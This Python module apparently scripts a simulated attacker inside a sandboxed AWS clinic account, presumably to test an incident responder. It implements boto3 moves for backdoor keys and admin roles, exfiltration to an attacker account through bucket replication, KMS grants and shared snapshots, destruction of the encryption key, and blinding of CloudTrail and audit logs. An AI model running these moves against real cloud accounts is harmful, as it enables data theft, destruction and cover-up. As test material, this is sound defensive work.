"""What a thief does to stay, to spread, to take along and to blind: one function a move, with one set of credentials.

A move gives the credentials it minted, and raises ClientError where it is refused.
"""

import json
from collections.abc import Callable, Iterable
from typing import TYPE_CHECKING, Any, Final

from shared.sandbox.aws import clinic_policies as policies
from shared.sandbox.aws import scenario_names as names
from shared.sandbox.aws.clinic_people import role_arn, user_arn
from shared.sandbox.aws.refusals import Refusal
from shared.sandbox.aws.sts_rules import compute_session

if TYPE_CHECKING:
    from shared.sandbox.aws.thief import Hand, Thief

type Move = Callable[["Thief", "Hand"], Iterable["Hand"]]

ALL: Final = policies.document(policies.allow(("*",)))
ABROAD: Final = f"arn:aws:iam::{names.THIEF_ACCOUNT}:root"
ANYBODY_HERE: Final = policies.trust(arns=[f"arn:aws:iam::{names.ACCOUNT}:root", ABROAD])
FAR_REGIONS: Final = ("eu-west-1", "ap-southeast-2", "sa-east-1")
FULL: Final = 20_000
"""Almost all of a bucket policy's 20 KB."""


def new_key(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A second way in for a user that is there."""
    user = thief.random.choice(thief.users)
    made = thief.client(hand, "iam").create_access_key(UserName=user)["AccessKey"]
    return [thief.take(f"key of {user}", made)]


def new_user(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A user with every right, and a key."""
    iam, user = thief.client(hand, "iam"), thief.name("svc")
    iam.create_user(UserName=user)
    thief.users.append(user)
    iam.put_user_policy(UserName=user, PolicyName="all", PolicyDocument=ALL)
    return [thief.take(f"user {user}", iam.create_access_key(UserName=user)["AccessKey"])]


def new_role(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A role with every right that lets in the account and the thief's own."""
    iam, role = thief.client(hand, "iam"), thief.name("batch")
    iam.create_role(RoleName=role, AssumeRolePolicyDocument=ANYBODY_HERE)
    thief.roles.append(role)
    iam.put_role_policy(RoleName=role, PolicyName="all", PolicyDocument=ALL)
    return ()


def assume(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A session of a role, from inside or from the thief's own account; chained where the credentials are a session already."""
    role, session, holder = thief.random.choice(thief.roles), thief.name("job"), thief.random.choice([hand, thief.abroad])
    answer = thief.client(holder, "sts").assume_role(RoleArn=role_arn(role), RoleSessionName=session)
    return [thief.take(f"session {session} of {role}", answer["Credentials"])]


def federate(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A federation token, which outlives the key that asked for it."""
    answer = thief.client(hand, "sts").get_federation_token(Name=thief.name("web"), Policy=ALL)
    return [thief.take(f"token of {hand.identity}", answer["Credentials"])]


def run_instance(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A machine that is given the clinicians' own role, and hands its credentials out."""
    ran = thief.client(hand, "ec2").run_instances(
        ImageId="ami-0a1b2c3d4e5f60718", MinCount=1, MaxCount=1, IamInstanceProfile={"Name": names.APP_ROLE}
    )
    return _given(thief, names.APP_ROLE, "ec2.amazonaws.com", ran["Instances"][0]["InstanceId"])


def run_function(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A function that is given a role of the thief's own making."""
    iam, name = thief.client(hand, "iam"), thief.name("sync")
    made = iam.create_role(RoleName=name, AssumeRolePolicyDocument=policies.trust(service="lambda.amazonaws.com"))["Role"]["Arn"]
    iam.put_role_policy(RoleName=name, PolicyName="all", PolicyDocument=ALL)
    thief.client(hand, "lambda").create_function(
        FunctionName=name, Runtime="python3.13", Role=made, Handler="main.handle", Code={"ZipFile": b"PK\x05\x06" + bytes(18)}
    )
    return _given(thief, name, "lambda.amazonaws.com", name)


def _given(thief: "Thief", role: str, service: str, session: str) -> Iterable["Hand"]:
    """What compute reads from its metadata, once the role has come into force."""
    try:
        issued = compute_session(thief.cloud, role_arn(role), service, session)
    except Refusal:
        return ()
    answer = {"AccessKeyId": issued.access_key_id, "SecretAccessKey": issued.secret, "SessionToken": issued.token}
    return [thief.take(f"compute {session} under {role}", answer)]


def edit_trust(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Let the thief's own account into a role that is there."""
    thief.client(hand, "iam").update_assume_role_policy(RoleName=names.BATCH_ROLE, PolicyDocument=ANYBODY_HERE)
    return ()


def console(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A password for the console."""
    user = thief.random.choice(thief.users)
    thief.client(hand, "iam").create_login_profile(UserName=user, Password="Correct-Horse-1")  # noqa: S106 - of an imaginary user
    return ()


def pad_user(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Use up the inline quota of a user, so that no deny fits."""
    wide = policies.allow(("*",), ("*", f"arn:aws:s3:::{'a' * 1700}"))
    user = thief.random.choice(thief.users)
    thief.client(hand, "iam").put_user_policy(UserName=user, PolicyName="all", PolicyDocument=policies.document(wide))
    return ()


def decoys(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Five users at once, to trip whoever counts incidents."""
    for _ in range(5):
        user = thief.name("decoy")
        thief.client(hand, "iam").create_user(UserName=user)
        thief.users.append(user)
    return ()


def flood(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Use up the account's request rate."""
    for _ in range(30):
        thief.client(hand, "iam").list_roles()
    return ()


def grant(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """The key's use for the thief's own account."""
    thief.client(hand, "kms").create_grant(
        KeyId=thief.clinic.resources["key"],
        GranteePrincipal=user_arn("collector", names.THIEF_ACCOUNT),
        Operations=["Decrypt", "GenerateDataKey", "CreateGrant"],
    )
    return ()


def replicate_key(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """The same key material in another Region, under a policy of the thief's."""
    thief.client(hand, "kms").replicate_key(
        KeyId=thief.clinic.resources["key"], ReplicaRegion=thief.random.choice(FAR_REGIONS), Policy=_open_key_policy()
    )
    return ()


def bypass_lockout(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A key policy that forgets about everybody's denies, with the safety check switched off."""
    thief.client(hand, "kms").put_key_policy(
        KeyId=thief.clinic.resources["key"],
        PolicyName="default",
        Policy=_open_key_policy(),
        BypassPolicyLockoutSafetyCheck=True,
    )
    return ()


def _open_key_policy() -> str:
    everybody = {"AWS": [f"arn:aws:iam::{names.ACCOUNT}:root", ABROAD]}
    return policies.document({"Sid": "Open", "Effect": "Allow", "Principal": everybody, "Action": "kms:*", "Resource": "*"})


def schedule_deletion(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Destroy the key in a week, and with it every chart."""
    thief.client(hand, "kms").schedule_key_deletion(KeyId=thief.clinic.resources["key"], PendingWindowInDays=7)
    return ()


def open_bucket(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Let the whole world read the charts."""
    s3 = thief.client(hand, "s3")
    s3.delete_public_access_block(Bucket=names.CHARTS)
    world: dict[str, object] = {
        "Sid": "Share",
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:GetObject",
        "Resource": f"{_arn(names.CHARTS)}/*",
    }
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=policies.document(world))
    return ()


def pad_bucket_policy(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Leave no room for anybody's statements."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    padding = {**_harmless("Inventory"), "Resource": f"{_arn(names.CHARTS)}/"}
    missing = FULL - len(json.dumps({**policy, "Statement": [*policy["Statement"], padding]}))
    padding["Resource"] += "a" * max(0, missing)
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": [*policy["Statement"], padding]}))
    return ()


def leave_deleted_principal(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Name a user in the bucket policy and delete it: no later write that keeps the statement is accepted."""
    iam, s3, user = thief.client(hand, "iam"), thief.client(hand, "s3"), thief.name("temp")
    made = iam.create_user(UserName=user)["User"]["Arn"]
    policy = _policy(s3)
    named = {**_harmless("Audit"), "Principal": {"AWS": made}}
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": [*policy["Statement"], named]}))
    iam.delete_user(UserName=user)
    return ()


def lock_bucket(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Nobody may change the policy of the store any more."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    lock: dict[str, Any] = {
        "Sid": "Hold",
        "Effect": "Deny",
        "Principal": "*",
        "Action": ["s3:PutBucketPolicy", "s3:DeleteBucketPolicy"],
        "Resource": _arn(names.CHARTS),
    }
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": [*policy["Statement"], lock]}))
    return ()


def plant_sid(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Keep the names of the responder's statements and empty them of what they say."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    planted = [_harmless(each["Sid"]) if _theirs(each) else each for each in policy["Statement"]]
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": planted}))
    return ()


def remove_denies(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Take the responder's statements out of the bucket policy."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    kept = [each for each in policy["Statement"] if not _theirs(each)] or [_harmless("Empty")]
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": kept}))
    return ()


def unquarantine(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Take whatever inline policy is not one's own off a user."""
    iam, user = thief.client(hand, "iam"), thief.random.choice(thief.users)
    for policy in iam.list_user_policies(UserName=user)["PolicyNames"]:
        if policy not in {"all", "work"}:
            iam.delete_user_policy(UserName=user, PolicyName=policy)
    return ()


def replicate_bucket(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Every new chart to a bucket of the thief's."""
    rule = {
        "ID": "archive",
        "Status": "Enabled",
        "Priority": 1,
        "Filter": {},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": "arn:aws:s3:::collector-archive", "Account": names.THIEF_ACCOUNT},
    }
    thief.client(hand, "s3").put_bucket_replication(
        Bucket=names.CHARTS, ReplicationConfiguration={"Role": role_arn(names.BATCH_ROLE), "Rules": [rule]}
    )
    return ()


def expire_log(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Let the audit log delete itself by tomorrow."""
    rule = {"ID": "tidy", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}
    thief.client(hand, "s3").put_bucket_lifecycle_configuration(Bucket=names.AUDIT_LOG, LifecycleConfiguration={"Rules": [rule]})
    return ()


def stop_logging(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Blind the audit trail."""
    thief.client(hand, "cloudtrail").stop_logging(Name=names.TRAIL)
    return ()


def share_snapshot(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """The imaging archive's disk for the thief's own account."""
    thief.client(hand, "ec2").modify_snapshot_attribute(
        SnapshotId=thief.clinic.resources["snapshot"],
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=[names.THIEF_ACCOUNT],
    )
    return ()


def _arn(bucket: str) -> str:
    return f"arn:aws:s3:::{bucket}"


def _policy(s3: Any) -> dict[str, Any]:  # noqa: ANN401 - boto3's clients are made by name
    return dict(json.loads(s3.get_bucket_policy(Bucket=names.CHARTS)["Policy"]))


def _theirs(statement: dict[str, Any]) -> bool:
    return str(statement.get("Sid", "")).startswith("Codeblue")


def _harmless(sid: str) -> dict[str, Any]:
    return {"Sid": sid, "Effect": "Deny", "Principal": "*", "Action": "s3:PutObjectAcl", "Resource": f"{_arn(names.CHARTS)}/none"}


MOVES: Final[tuple[Move, ...]] = (
    new_key,
    new_user,
    new_role,
    assume,
    federate,
    run_instance,
    run_function,
    edit_trust,
    console,
    pad_user,
    decoys,
    flood,
    grant,
    replicate_key,
    bypass_lockout,
    schedule_deletion,
    open_bucket,
    pad_bucket_policy,
    leave_deleted_principal,
    lock_bucket,
    plant_sid,
    remove_denies,
    unquarantine,
    replicate_bucket,
    expire_log,
    stop_logging,
    share_snapshot,
)
"""The whole repertoire."""
